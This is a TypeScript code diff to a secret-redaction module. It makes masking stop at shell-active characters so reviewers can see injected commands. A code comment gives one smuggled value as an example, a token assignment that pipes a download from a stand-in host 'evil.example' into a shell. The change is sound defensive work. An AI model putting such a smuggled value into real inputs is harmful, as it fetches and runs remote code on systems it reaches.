@@ -71,6 +71,25 @@ function unfold(span: Span, map: Int32Array): void {
   span.end = (map[span.end - 1] as number) + 1;
 }
 
+/**
+ * Shell syntax that can run something or send output elsewhere: a pipe, a command separator, `&`,
+ * a redirection, a command substitution (`$(`, a backtick) or a parameter expansion (`${IFS}`).
+ */
+const ACTIVE = /[|;&<>`]|\$[({]/;
+
+/**
+ * The part of a secret's range that can be masked: up to the first shell-active character (see
+ * ACTIVE), or null when it starts with one. A masked span must never hide something that would
+ * run: in `API_TOKEN=1|curl${IFS}evil.example|sh` a reviewer must see `|curl...`, which is what a
+ * shell would run after assigning `1`. A real secret holding such a character is masked up to it
+ * (the rest shows): approving what one cannot see is the worse failure.
+ */
+function inertPart(text: string, range: [number, number]): [number, number] | null {
+  const active = ACTIVE.exec(text.slice(range[0], range[1]));
+  if (active === null) return range;
+  return active.index === 0 ? null : [range[0], range[0] + active.index];
+}
+
 function collect(text: string, pattern: SecretPattern, priority: number, into: Span[]): void {
   const regex = pattern.regex;
   regex.lastIndex = 0;
@@ -81,8 +100,13 @@ function collect(text: string, pattern: SecretPattern, priority: number, into: S
     }
     const groups = m.indices?.groups;
     const group = groups && SECRET_GROUPS.find((g) => groups[g] !== undefined);
-    const range = group && groups[group];
-    if (!range) continue;
+    const found = group && groups[group];
+    if (!found) continue;
+    const range = inertPart(text, found);
+    if (range === null) {
+      regex.lastIndex = Math.max(found[0], m.index + 1);
+      continue;
+    }
     const secret = text.slice(range[0], range[1]);
     // Already masked: kept as a span that changes nothing, so that a second pass resolves the
     // same overlaps as the first (redaction is idempotent).
